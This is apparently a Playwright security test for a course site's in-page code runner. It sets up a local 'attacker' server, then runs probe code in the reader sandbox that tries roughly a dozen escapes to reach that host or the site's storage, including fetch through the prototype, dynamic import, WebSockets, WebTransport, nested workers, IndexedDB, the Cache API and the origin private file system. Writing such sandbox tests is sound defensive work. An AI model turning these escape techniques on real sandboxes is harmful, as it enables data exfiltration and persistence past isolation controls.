/**
 * Issue 10, item 2: reader code in the page reaches no network and none of the
 * site's storage, whatever it tries. Each escape that got through the old
 * "delete the globals" lock-down is tried here against a local "attacker"
 * server, which must receive nothing, and the page's own storage is checked
 * afterwards for anything the code left behind.
 */
import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import { expect, test } from '@playwright/test';
import { edit, runAndWait } from './examples.ts';
import { pages } from './site.ts';

/** Outside the E2E_PORT range the preview uses; see the team's port plan (4360–4369). */
const ATTACKER_PORT = 4362;
const ATTACKER = `http://127.0.0.1:${ATTACKER_PORT}`;

/** What the attacker server saw: one line per request or WebSocket upgrade. */
const received: string[] = [];
let attacker: Server | undefined;

test.beforeAll(async () => {
  attacker = createServer((request, response) => {
    received.push(`${request.method} ${request.url}`);
    // A willing endpoint: CORS open, an event stream for EventSource, JavaScript for the rest.
    const stream = request.url?.endsWith('-sse') ?? false;
    response.writeHead(200, { 'content-type': stream ? 'text/event-stream' : 'text/javascript', 'access-control-allow-origin': '*' });
    response.end(stream ? 'data: hello\n\n' : 'export default "escaped";');
  });
  // WebSockets are accepted (RFC 6455's handshake), so a connection that gets through says "reached".
  attacker.on('upgrade', (request, socket) => {
    received.push(`UPGRADE ${request.url}`);
    const accept = createHash('sha1').update(`${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest('base64');
    socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`);
    setTimeout(() => socket.destroy(), 2_000);
  });
  await new Promise<void>((resolve) => attacker?.listen(ATTACKER_PORT, '127.0.0.1', resolve));
});

test.afterAll(async () => {
  await new Promise((resolve) => attacker?.close(resolve));
});

/**
 * The nested worker's attempts: a worker started by reader code had fetch,
 * XHR, WebSocket, EventSource, IndexedDB, the Cache API, importScripts and a
 * BroadcastChannel that reached the page.
 */
const NESTED = `
const A = ${JSON.stringify(ATTACKER)};
const tries = [];
const attempt = (name, run) => tries.push(Promise.resolve().then(run).then(() => name + ': reached', () => name + ': blocked'));
attempt('nested fetch', () => fetch(A + '/nested-fetch'));
attempt('nested XMLHttpRequest', () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.onload = resolve; x.onerror = reject; x.open('GET', A + '/nested-xhr'); x.send(); }));
attempt('nested WebSocket', () => new Promise((resolve, reject) => { const s = new WebSocket(A.replace('http', 'ws') + '/nested-ws'); s.onopen = resolve; s.onerror = reject; }));
attempt('nested EventSource', () => new Promise((resolve, reject) => { const s = new EventSource(A + '/nested-sse'); s.onopen = resolve; s.onerror = reject; }));
attempt('nested importScripts', () => importScripts(A + '/nested-import.js'));
attempt('nested IndexedDB', () => new Promise((resolve, reject) => { const r = indexedDB.open('course-escape-nested'); r.onsuccess = resolve; r.onerror = reject; }));
attempt('nested Cache API', () => caches.open('course-escape-nested'));
// Posting cannot fail; whether it reached the page is for the page to say (it listens on this channel).
new BroadcastChannel('course-escape').postMessage('escaped from a nested worker');
Promise.all(tries).then((lines) => postMessage(lines));
`;

/** The reader's code: every escape at once (each bounded in time, so the run ends well inside its 3 s). */
const PROBE = `const A = ${JSON.stringify(ATTACKER)};
const g = globalThis as any;
const proto = g.WorkerGlobalScope?.prototype ?? {};
const getter = (name: string) => Object.getOwnPropertyDescriptor(proto, name)?.get?.call(g);
const within = (ms: number, work: Promise<unknown>) => Promise.race([work, new Promise((_, reject) => setTimeout(() => reject(new Error('no answer')), ms))]);
async function attempt(name: string, run: () => unknown): Promise<string> {
  try { await within(1200, Promise.resolve().then(run)); return name + ': reached'; } catch { return name + ': blocked'; }
}
const lines = await Promise.all([
  attempt('fetch', () => g.fetch(A + '/fetch')),
  attempt('WorkerGlobalScope.prototype.fetch', () => proto.fetch.call(g, A + '/prototype-fetch')),
  attempt('import() from new Function', () => new Function('u', 'return import(u)')(A + '/import.js?secret=42')),
  attempt('WebSocketStream', () => new g.WebSocketStream(A.replace('http', 'ws') + '/websocketstream').opened),
  attempt('WebTransport', () => new g.WebTransport('https://127.0.0.1:${ATTACKER_PORT}/webtransport').ready),
  attempt('cross-origin Worker', () => new Worker(A + '/worker.js')),
  attempt('IndexedDB through its prototype getter', () => new Promise((resolve, reject) => { const r = getter('indexedDB').open('course-escape'); r.onsuccess = resolve; r.onerror = reject; })),
  attempt('Cache API through its prototype getter', () => getter('caches').open('course-escape')),
  attempt('origin private file system', async () => {
    const root = await g.navigator.storage.getDirectory();
    const file = await root.getFileHandle('course-escape.txt', { create: true });
    const writable = await file.createWritable();
    await writable.write('escaped');
    await writable.close();
  }),
  attempt('nested Worker', () => new Promise((resolve, reject) => {
    const nested = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(NESTED)}])));
    nested.onmessage = (event) => { for (const line of event.data) console.log(line); event.data.some((line: string) => line.endsWith('reached')) ? resolve(0) : reject(new Error()); };
    nested.onerror = reject;
  })),
]);
for (const line of lines) console.log(line);`;

test('reader code reaches no network and none of the site’s storage, whichever escape it tries', async ({ page }) => {
  await page.goto(pages.sigmoid.path);
  // The page listens where the old nested worker's BroadcastChannel reached it.
  await page.evaluate(() => {
    const heard: unknown[] = [];
    (window as unknown as { heard: unknown[] }).heard = heard;
    new BroadcastChannel('course-escape').onmessage = (event) => heard.push(event.data);
  });
  const example = page.locator('course-example').first();
  await edit(page, example, PROBE);
  await runAndWait(example);
  const output = (await example.locator('output samp').textContent()) ?? '';
  const attempts = output.split('\n').filter((line) => /: (reached|blocked)$/.test(line));
  expect.soft(attempts.length, output).toBe(17);
  expect.soft(attempts.filter((line) => line.endsWith('reached')), output).toEqual([]);
  // Give anything in flight a moment to arrive before looking.
  await page.waitForTimeout(500);
  expect.soft(received).toEqual([]);
  const left = await page.evaluate(async () => {
    const databases = (await indexedDB.databases()).map((database) => database.name);
    const caches_ = await caches.keys();
    const files: string[] = [];
    for await (const name of (await navigator.storage.getDirectory()).keys()) files.push(name);
    return { databases, caches: caches_, files, heard: (window as unknown as { heard: unknown[] }).heard };
  });
  expect(left).toEqual({ databases: [], caches: [], files: [], heard: [] });
});
